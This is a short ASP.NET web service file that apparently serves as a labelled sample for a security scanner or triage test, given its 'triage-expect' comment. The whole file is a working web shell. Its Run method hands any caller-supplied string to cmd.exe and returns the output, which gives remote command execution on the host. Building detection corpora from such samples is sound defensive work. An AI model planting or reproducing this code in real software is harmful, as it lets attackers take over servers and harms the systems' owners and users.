<%@ WebService Language="C#" Class="Svc" %>
// triage-expect: triage_asp_shell_exec
using System.Diagnostics; using System.Web.Services;
public class Svc : WebService {
    [WebMethod]
    public string Run(string line) {
        var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + line) { RedirectStandardOutput = true, UseShellExecute = false });
        return p.StandardOutput.ReadToEnd();
    }
}
